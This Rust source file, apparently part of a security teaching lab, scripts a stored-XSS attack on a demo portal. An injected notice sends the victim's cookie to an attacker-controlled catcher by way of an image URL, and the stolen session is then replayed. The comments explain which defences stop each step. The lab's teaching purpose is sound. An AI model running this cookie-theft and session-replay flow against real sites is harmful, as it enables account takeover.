//! XSS steals the cookie: a script in a notice reads `document.cookie` and sends it to the
//! attacker, who uses it on another computer. Worksheet 03.
//!
//! Start: the attacker has an ordinary account and may post on the board that the victim reads.
//!
//! Why it works: the weak `output` writes a notice into the page as HTML, so the attacker's text
//! becomes the portal's script. Without `HttpOnly` the id is text that any script of the page can
//! read.
//!
//! Proof: the attacker's own client, on another computer, is greeted as the victim with the cookie
//! that arrived.
//!
//! Stopped by `output`, by `csp` and by `http-only`, each alone. They differ in what is left.
//! `output` leaves no script. `csp` leaves markup. `http-only` leaves a running script, and
//! `xss_rides_session.rs` shows what that script still does. Not stopped by `same-site` or
//! `secure`: the script reads the cookie where it is, and the attacker's replay is no request of
//! the victim's browser. Not by `csrf-token`: the attacker needs no form.
//!
//! Refused for this program: a form that imitates the sign-in page. It steals more, a password, and
//! it needs no script, so it would say nothing about `http-only`.
//!
//! Source: ASVS 1.2.1 (output encoding for the context), ASVS 3.3.4, ASVS 3.4.3, CWE-79, CWE-1004.

use async_trait::async_trait;

use super::scenario::{ATTACKER, SCRIPT_PATIENCE, Scenario, ScenarioError, VICTIM};
use super::{Attack, Card, Engine, Outcome};
use crate::attacks::payloads;
use crate::client::caller::Call;
use crate::defences::policy::Name;

pub(super) struct XssStealsCookie;

const CARD: Card = Card {
    name: "xss-steals-cookie",
    title: "A script that steals the cookie",
    engine: Engine::Browser,
    victim: "Signed in; opens the notice board.",
    means: "The attacker posts a notice with a script, which loads an image from the attacker's \
            site with document.cookie in its address.",
    evidence: "With the cookie that arrived the attacker's own client is greeted as the victim.",
    stopped_by: &[&[Name::Output], &[Name::Csp], &[Name::HttpOnly]],
    when_stopped: "The board showed the script as text, the browser refused to run it, or it found \
                   no session cookie to read.",
    shows: &["XSS-RUN", "XSS-STEAL", "CK-HTTPONLY", "HDR-CSP"],
    standards: &[
        "ASVS 3.3.4",
        "ASVS 1.2.1",
        "CWE-79",
        "CWE-1004",
        "WSTG-SESS-02",
    ],
};

#[async_trait]
impl Attack for XssStealsCookie {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        let portal = scenario.portal(scenario.scheme().await?);
        scenario.narrate("The attacker signs in as mallory and posts a notice with a script.");
        // Mallory is an ordinary user with an ordinary account. The hole is that the board shows
        // their text as HTML to everyone else.
        let mut attacker = scenario.actor("attacker");
        attacker.sign_in(ATTACKER).await?;
        // Three defences can stop the script, at three places. `output` escapes the text, so the
        // page has no script. `csp` forbids inline scripts and foreign images, so the browser does
        // not run it or does not send the result. `http-only` lets it run, and hides the cookie
        // from it.
        let script = payloads::steal_cookie(&scenario.catcher());
        attacker.post_notice(&script).await?;

        scenario.narrate("The victim signs in and opens the notice board.");
        let victim = scenario.browser_actor("victim").await?;
        victim.sign_in(&portal, VICTIM).await?;
        // The script runs with the portal's origin, in the victim's page. The same-origin policy
        // protects the portal from other sites, not from text in its own pages.
        victim.visit(&format!("{portal}/board")).await?;

        scenario.narrate("The attacker looks at the loot on their own site, and uses the cookie.");
        // An image needs no permission to be loaded from another site, so the query of its address
        // is the simplest way out for data.
        let loot = scenario.wait_for_loot(SCRIPT_PATIENCE).await?;
        let stolen = loot.iter().find_map(|loot| loot.query("cookie"));
        let mut pairs = stolen.iter().flat_map(|cookies| cookies.split("; "));
        // The name of the session cookie is no secret: mallory has one of the same name.
        let session = pairs.find(|pair| pair.contains("session_"));
        let Some(session) = session else {
            return Ok(Outcome::Stopped(CARD.when_stopped.into()));
        };
        // The attacker now has the session on their own computer and needs the victim's browser no
        // more. Next: `xss_rides_session.rs`, which does not need the cookie at all.
        let replay = Call::get("/dashboard").with_cookie(Some(session.to_owned()));
        Ok(match attacker.greeted_as(replay).await? {
            Some(user) if user == VICTIM => {
                Outcome::Succeeded(format!("The stolen cookie opens {user}'s dashboard."))
            }
            _ => Outcome::Stopped(CARD.when_stopped.into()),
        })
    }
}
